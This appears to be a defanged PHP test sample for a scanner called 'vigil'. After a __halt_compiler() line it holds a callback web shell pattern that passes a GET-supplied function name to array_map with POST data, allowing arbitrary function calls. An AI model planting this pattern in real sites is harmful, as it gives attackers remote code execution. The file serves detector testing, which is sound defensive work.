<?php
/* DEFANGED vigil test sample (see README). Nothing below runs. */
__halt_compiler();
<?php
$cb = $_GET['f'];
if (!preg_match('/^[a-z_]+$/', $cb)) die();
array_map($cb, array($_POST['x']));
